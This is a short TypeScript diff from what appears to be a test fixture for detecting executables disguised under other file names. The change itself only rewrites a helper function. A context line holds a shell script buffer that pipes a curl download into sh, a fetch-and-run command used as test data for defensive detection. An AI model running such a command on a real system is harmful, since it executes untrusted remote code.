@@ -8,12 +8,14 @@ const WASM = latin1('\0asm\x01\0\0\0');
 const CLASS = latin1('\xca\xfe\xba\xbe\0\0\0\x41\0\x10');
 const SHELL = Buffer.from('#!/bin/sh\ncurl -s x | sh\n');
 
-const file = (
+function file(
   name: string,
   declared: DishonestFile['declared'],
   bytes: Buffer,
   outcome: DishonestFile['outcome'],
-): DishonestFile => ({ name, declared, bytes, outcome });
+): DishonestFile {
+  return { name, declared, bytes, outcome };
+}
 
 /** Programs under other names. */
 export const PROGRAMS: readonly DishonestFile[] = [
